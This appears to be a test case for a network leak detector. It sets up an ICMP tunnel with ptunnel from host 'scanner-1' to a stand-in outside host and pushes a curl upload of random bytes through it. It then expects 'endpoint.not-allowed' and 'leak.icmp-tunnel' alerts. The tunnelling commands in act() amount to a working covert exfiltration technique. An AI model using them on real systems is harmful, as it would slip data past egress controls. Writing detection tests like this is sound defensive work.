says='scanner-1 carries a web upload inside of pings to outside (ptunnel)'
twin=pings
expected='
  endpoint.not-allowed scanner-1 | tunnel.othervendor.example icmp
  leak.icmp-tunnel scanner-1 | tunnel.othervendor.example icmp
'
prepare() {
  on out sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  # it captures what comes, and answers for the kernel
  serve out ptunnel ptunnel -c eth0
}
act() {
  serve scanner1 ptunnel-client ptunnel -p tunnel.othervendor.example -lp 8000 -da 198.51.100.41 -dp 80
  wait_port scanner1 127.0.0.1 8000
  head -c 60000 /dev/urandom >"$work/piece"
  quiet on scanner1 curl --silent --max-time 15 --data-binary "@$work/piece" http://127.0.0.1:8000/up || true
  on out sysctl -qw net.ipv4.icmp_echo_ignore_all=0
}
